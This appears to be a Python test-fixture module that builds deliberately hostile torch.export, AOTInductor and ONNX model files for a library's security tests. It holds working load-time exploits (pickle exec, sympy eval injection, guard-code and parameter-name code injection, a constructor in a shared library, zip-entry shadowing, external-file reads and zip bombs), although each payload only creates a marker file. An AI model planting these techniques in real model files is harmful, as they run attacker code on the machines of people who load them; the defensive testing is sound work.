"""Hostile model files for the reliability suite: each one runs code (or reads a file it names) when
loaded by the library that reads its format, so a test can first prove the file live and then prove
that hiposeg refuses it before any of that happens.

Every code payload creates a marker file; none does anything else.
"""

from __future__ import annotations

import json
import pickle
import shutil
import subprocess
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path

import torch

CONSTANTS_CONFIG = "data/constants/model_constants_config.json"
WEIGHTS_CONFIG = "data/weights/model_weights_config.json"
PROGRAM_JSON = "models/model.json"
Entries = list[tuple[str, bytes]]


class Payload:
    """Unpickling this runs `open(marker, "w")`: the classic pickle code-execution payload."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self):  # type: ignore[no-untyped-def]
        return exec, (touch_code(self.marker),)


def touch_code(marker: Path) -> str:
    return f"open({str(marker)!r}, 'w').close()"


def quote_free(code: str) -> str:
    """A Python expression that execs `code` and contains no quote character (payloads that must
    survive being pasted between quotes or into an f-string)."""
    return "getattr(__import__(" + "+".join(f"chr({ord(c)})" for c in "builtins") + "),"\
        + "+".join(f"chr({ord(c)})" for c in "exec") + ")(" + "+".join(f"chr({ord(c)})" for c in code) + ")"


# ------------------------------------------------------------------------------------------
# torch.export archives
# ------------------------------------------------------------------------------------------


def conv_program(path: Path, metadata: dict | None = None) -> Path:
    """A genuine torch.export archive of a 1x1 convolution, with `metadata` as its hiposeg.json (with
    a real model's metadata, hiposeg goes on to build and run the program)."""
    dims = {0: torch.export.Dim("batch", max=256), 2: torch.export.Dim("height", min=8, max=8192),
            3: torch.export.Dim("width", min=8, max=8192)}  # as in hiposeg's programs: any image size runs
    program = torch.export.export(torch.nn.Conv2d(3, 2, 1), (torch.zeros(2, 3, 16, 24),),
                                  dynamic_shapes={"input": dims})
    torch.export.save(program, path, extra_files={"hiposeg.json": json.dumps(metadata or {})})
    return path


def entries_of(path: Path) -> Entries:
    with zipfile.ZipFile(path) as z:
        return [(i.filename, z.read(i)) for i in z.infolist()]


def write_entries(path: Path, entries: Entries) -> Path:
    """A zip of exactly these (name, data) entries, in this order, duplicates included."""
    path.unlink(missing_ok=True)
    with zipfile.ZipFile(path, "w") as z, warnings.catch_warnings():
        warnings.simplefilter("ignore", UserWarning)  # "Duplicate name"
        for name, data in entries:
            z.writestr(name, data)
    return path


def root_of(entries: Entries) -> str:
    return entries[0][0].split("/")[0]


def torch_reads(path: Path, record: str) -> bytes:
    """What torch's own archive reader returns for `record` (the reader torch.export.load uses)."""
    return torch._C.PyTorchFileReader(str(path)).get_record(record)


def python_reads(path: Path, record: str) -> bytes:
    with zipfile.ZipFile(path) as z:
        return z.read(f"{root_of(entries_of(path))}/{record}")


def shadowed_config_program(base: Path, out: Path, marker: Path, *, case: bool = False) -> Path:
    """The constants config stored twice: a first copy that marks an opaque object as pickled (the
    object's bytes are the payload) and the benign original after it. Python's zipfile reads the
    last copy; torch's reader, which looks names up by binary search over the names sorted without
    regard to case, reads whichever copy its search meets. With `case`, the malicious copy's name
    differs in case only (DATA/constants/...), which Python treats as another file.

    The malicious copy is moved until torch's reader returns it, so the file is live by construction."""
    entries = entries_of(base)
    root = root_of(entries)
    benign = next(i for i, (n, _) in enumerate(entries) if n == f"{root}/{CONSTANTS_CONFIG}")
    evil_name = f"{root}/{CONSTANTS_CONFIG.replace('data/', 'DATA/')}" if case else f"{root}/{CONSTANTS_CONFIG}"
    evil = json.dumps({"config": {"evil": {"path_name": "opaque_obj_0", "is_param": False, "use_pickle": True,
                                           "tensor_meta": None}}}).encode()
    payload = (f"{root}/data/constants/opaque_obj_0", pickle.dumps(Payload(marker)))
    for at in range(benign, -1, -1):
        write_entries(out, [*entries[:at], (evil_name, evil), *entries[at:], payload])
        if torch_reads(out, CONSTANTS_CONFIG) == evil:
            assert python_reads(out, CONSTANTS_CONFIG) == entries[benign][1]
            return out
    raise AssertionError("no layout found in which torch reads the malicious copy")


def edited_program(base: Path, out: Path, edit: Callable[[dict], None], record: str = PROGRAM_JSON) -> Path:
    """The archive with one JSON record changed by `edit`."""
    entries = entries_of(base)
    root = root_of(entries)
    changed = []
    for name, data in entries:
        if name == f"{root}/{record}":
            value = json.loads(data)
            edit(value)
            data = json.dumps(value).encode()
        changed.append((name, data))
    return write_entries(out, changed)


def sympy_program(base: Path, out: Path, marker: Path) -> Path:
    """An input size given as a symbolic expression: torch parses it with sympy.sympify (eval)."""
    def edit(program: dict) -> None:
        graph = program["graph_module"]["graph"]
        graph["tensor_values"]["input"]["sizes"][0] = {
            "as_expr": {"expr_str": f"__import__('builtins').exec({touch_code(marker)!r}) or 1", "hint": {"as_int": 1}}}

    return edited_program(base, out, edit)


def guards_program(base: Path, out: Path, marker: Path) -> Path:
    """Guard code: `ExportedProgram.module()` execs it into the module's input check."""
    def edit(program: dict) -> None:
        program["guards_code"] = [f"{quote_free(touch_code(marker))} is None"]

    return edited_program(base, out, edit)


def parameter_name_program(base: Path, out: Path, marker: Path) -> Path:
    """A parameter name that breaks out of the string torch's code generator puts it in
    (`getattr(self, "NAME")`), so the generated forward() runs the payload."""
    name = f'w",0)or {quote_free(touch_code(marker))} or("'

    def rename_in_signature(program: dict) -> None:
        for spec in program["graph_module"]["signature"]["input_specs"]:
            if spec.get("parameter", {}).get("parameter_name") == "weight":
                spec["parameter"]["parameter_name"] = name

    def rename_in_weights(config: dict) -> None:
        config["config"][name] = config["config"].pop("weight")

    staged = edited_program(base, out.with_name("staged-" + out.name), rename_in_signature)
    edited_program(staged, out, rename_in_weights, record=WEIGHTS_CONFIG)
    staged.unlink()
    return out


def aoti_program(base: Path, out: Path, marker: Path, workdir: Path) -> Path:
    """An AOTInductor model: torch.export.load extracts its shared library and dlopens it, which runs
    the library's constructor (native code)."""
    compiler = shutil.which("cc") or shutil.which("gcc")
    assert compiler, "needs a C compiler"
    source = workdir / "ctor.c"
    source.write_text('#include <stdio.h>\n__attribute__((constructor)) static void run(void) '
                      f'{{ FILE *f = fopen("{marker}", "w"); if (f) fclose(f); }}\n')
    library = workdir / "ctor.so"
    subprocess.run([compiler, "-shared", "-fPIC", "-o", str(library), str(source)], check=True)
    entries = entries_of(base)
    root = root_of(entries)
    folder = f"{root}/data/aotinductor/model"
    return write_entries(out, [*entries, (f"{folder}/model.wrapper.so", library.read_bytes()),
                               (f"{folder}/model.wrapper_metadata.json", b'{"AOTI_DEVICE_KEY": "cpu"}')])


# ------------------------------------------------------------------------------------------
# ONNX models
# ------------------------------------------------------------------------------------------


def onnx_with_external_weights(path: Path, location: str, size: int) -> Path:
    """An Identity graph returning a uint8 initializer whose bytes live in the external file
    `location` (relative to the model's folder for onnx, to the working directory for onnxruntime
    given the model as bytes)."""
    import onnx
    from onnx import TensorProto, helper

    weights = TensorProto(name="W", data_type=TensorProto.UINT8, dims=[size], data_location=TensorProto.EXTERNAL)
    weights.external_data.add(key="location", value=location)
    graph = helper.make_graph([helper.make_node("Identity", ["W"], ["out"])], "g", [],
                              [helper.make_tensor_value_info("out", TensorProto.UINT8, [size])], initializer=[weights])
    onnx.save(helper.make_model(graph, opset_imports=[helper.make_opsetid("", 17)]), str(path))
    return path


# ------------------------------------------------------------------------------------------
# Archives whose entries cost more memory than the file holds
# ------------------------------------------------------------------------------------------


def deflated(src: Path, out: Path) -> Path:
    """`src` (a torch zip) with every entry deflate-compressed, in the same order: torch's reader inflates
    such entries in memory, so a file of kilobytes can hold gigabytes of zeros."""
    with zipfile.ZipFile(src) as z, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as w:
        for info in z.infolist():
            w.writestr(info.filename, z.read(info))
    return out


def aliased(src: Path, out: Path, aliases: dict[str, str]) -> Path:
    """`src` (a torch zip) rewritten so that each entry named in `aliases` stores no bytes of its own: its
    central-directory record points at the local entry of the name it aliases, so one stored copy is
    read as many (zip entries that overlap). Every entry stays uncompressed."""
    import struct
    import zlib

    with zipfile.ZipFile(src) as z:
        entries = [(i.filename, z.read(i)) for i in z.infolist()]
    data = dict(entries)
    body, offsets = b"", {}
    for name, payload in entries:
        if name in aliases:
            continue
        offsets[name] = len(body)
        crc = zlib.crc32(payload)
        body += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 0, 0, 0x21, crc, len(payload), len(payload),
                            len(name), 0) + name.encode() + payload
    central = b""
    for name, payload in entries:
        target = aliases.get(name, name)
        payload = data[target]
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 0, 0, 0x21, zlib.crc32(payload),
                               len(payload), len(payload), len(name), 0, 0, 0, 0, 0, offsets[target]) + name.encode()
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(entries), len(entries), len(central), len(body), 0)
    out.write_bytes(body + central + end)
    return out
